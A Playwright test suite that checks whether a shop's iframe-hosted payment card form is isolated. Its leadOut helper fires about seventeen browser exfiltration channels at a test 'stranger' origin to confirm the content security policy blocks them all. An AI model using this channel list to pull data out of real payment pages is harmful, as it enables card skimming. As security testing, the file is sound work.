import { newFrameKey } from "../../services/platform/keys/frame-keys.ts";
import { origins } from "../support/origins.ts";
import type { Shop } from "../support/shop.ts";
import { expect, test } from "../support/test.ts";

async function openForm(shop: Shop): Promise<void> {
  await shop.begin("empty@aisle.test");
  await shop.page.goto(`${origins.hosts}/banner/?shopper=empty@aisle.test`);
  await shop.cardBox.getByRole("button", { name: "Add or Change Payment Method" }).click();
  await expect(shop.flyout.secure("CVV")).toBeVisible();
}

/** Runs in a document: tries every way out of it that code in it has, and the last one leaves it. */
function leadOut(to: string): void {
  const element = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    properties: Partial<HTMLElementTagNameMap[Name]>,
  ) => {
    const made = Object.assign(document.createElement(name), properties);
    document.documentElement.append(made);
    return made;
  };
  const attempts: (() => unknown)[] = [
    () => fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => undefined),
    () => navigator.sendBeacon(`${to}/beacon`, "x"),
    () => element("img", { src: `${to}/img` }),
    () => new WebSocket(`${to.replace("http", "ws")}/socket`),
    () => new EventSource(`${to}/events`),
    () => new FontFace("stolen", `url(${to}/font)`).load().catch(() => undefined),
    () => element("link", { rel: "stylesheet", href: `${to}/style` }),
    () => element("link", { rel: "prefetch", href: `${to}/prefetch` }),
    () => element("style", { textContent: `@import url("${to}/import");` }),
    () => element("iframe", { src: `${to}/iframe` }),
    () => element("object", { data: `${to}/object` }),
    () => element("video", { src: `${to}/video` }),
    () => element("script", { src: `${to}/script.js` }),
    () => element("iframe", { name: "inside" }),
    () => element("form", { method: "post", action: `${to}/form`, target: "inside" }).submit(),
    () => new Worker(`${to}/worker.js`),
    () => window.open(`${to}/popup`),
  ];
  for (const attempt of attempts) {
    try {
      attempt();
    } catch {
      // Refused at once.
    }
  }
}

/** How the ways are called on the other side. */
const ways =
  "fetch beacon img socket events font style prefetch import iframe object video script.js form popup".split(
    " ",
  );

test("case 18: nothing gets out of a frame, by any way out", async ({ shop, stranger, complaints }) => {
  await openForm(shop);
  const [frame] = shop.page.frames().filter((each) => each.url().includes("/cvv-form"));
  if (!frame) throw new Error("there is no frame");
  await frame.evaluate(leadOut, stranger.origin);
  // Of a style that is refused whole no address is told, and of a frame only its origin.
  const named = ways.filter((way) => way !== "import" && way !== "iframe").map((way) => `/${way}`);
  const refused = () => complaints.join("\n");
  for (const sign of [...named, "/worker.js", "style-src-elem inline", `frame-src ${stranger.origin}`])
    await expect.poll(refused).toContain(sign);
  complaints.length = 0;

  await frame.evaluate((to) => (location.href = `${to}/navigation`), stranger.origin);
  await expect.poll(refused).toContain(`frame-src ${stranger.origin}`);
  // The browser may tell all of it once more, as the frame goes to another process.
  await shop.page.close();
  complaints.length = 0;
  expect(stranger.hits).toEqual([]);
});

test("case 18: every one of them is a way out of a page without our policy", async ({
  page,
  stranger,
  complaints,
}) => {
  await page.goto(stranger.origin);
  await page.evaluate(leadOut, stranger.origin);
  for (const way of ways) await expect.poll(() => stranger.hits).toContain(`/${way}`);
  // What the stranger answers is not all of the kind that was asked for.
  await expect.poll(() => complaints.splice(0).join("\n")).toContain("EventSource");
});

const attacks: readonly (readonly [string, (iframe: HTMLIFrameElement) => void, string])[] = [
  ["reloads", (iframe) => (iframe.src = String(iframe.src)), "REPLACED"],
  ["removes", (iframe) => iframe.remove(), "NO_FRAME_WINDOW"],
  ["leads away", (iframe) => (iframe.src = "about:blank"), "REPLACED"],
];

for (const [name, attack, code] of attacks) {
  test(`case 19: a page that ${name} a frame loses them all, and the form offers a way on`, async ({
    shop,
  }) => {
    await openForm(shop);
    await shop.flyout.typeCard();
    await shop.page.locator('iframe[title="CVV"]').evaluate(attack);
    const lost = shop.page.getByRole("dialog", { name: "Unable to add card" });
    await expect(lost).toContainText(code);
    await expect(shop.page.locator("iframe")).toHaveCount(0);
    await lost.getByRole("button", { name: "Try Again" }).click();
    await expect(shop.flyout.secure("Card Number")).toHaveValue("");
    await expect(shop.flyout.addForm.getByLabel("First Name")).toHaveValue("Emery");
  });
}

test("case 36: a key that is another each time is not run after", async ({ page, shop, services }) => {
  await openForm(shop);
  await shop.flyout.typeCard();
  await shop.flyout.addAddress();
  // Making one may take longer than the frame waits.
  const made = [newFrameKey(new Date()), newFrameKey(new Date())];
  let asked = 0;
  await page.route("**/pci-forms/v1/tokens", async (route) => {
    await services.rotateFrameKey(made[asked]);
    asked += 1;
    await route.continue();
  });
  await shop.flyout.submit();
  await expect(shop.flyout.addForm.locator(".sheet-footer .banner")).toBeVisible();
  expect(asked).toBe(2);
  await page.unroute("**/pci-forms/v1/tokens");
  await shop.flyout.submit();
  await expect(shop.flyout.card("1111")).toBeChecked();
});

test("case 37: a session that has run out is renewed by itself, and the digits stay", async ({
  shop,
  services,
}) => {
  await openForm(shop);
  await shop.flyout.typeCard();
  await shop.flyout.addAddress();
  await services.arm({ call: "tokens", fault: "FRAME_SESSION_EXPIRED" });
  await shop.flyout.submit();
  await expect(shop.flyout.card("1111")).toBeChecked();
});

test("case 37: a session that can't be renewed is said to have run out, and the digits stay", async ({
  shop,
  services,
}) => {
  await openForm(shop);
  await shop.flyout.typeCard();
  await shop.flyout.addAddress();
  await services.arm({ call: "tokens", fault: "FRAME_SESSION_EXPIRED" });
  await services.arm({ call: "frame-sessions", fault: "FORBIDDEN" });
  await shop.flyout.submit();
  await expect(
    shop.flyout.addForm.getByText("It looks like your session has expired.").first(),
  ).toBeVisible();
  await expect(shop.page.locator("#state")).toHaveText("Your session has expired.");
  await expect(shop.flyout.secure("Card Number")).toHaveValue("4111 1111 1111 1111");
  await shop.flyout.submit();
  await expect(shop.flyout.card("1111")).toBeChecked();
});
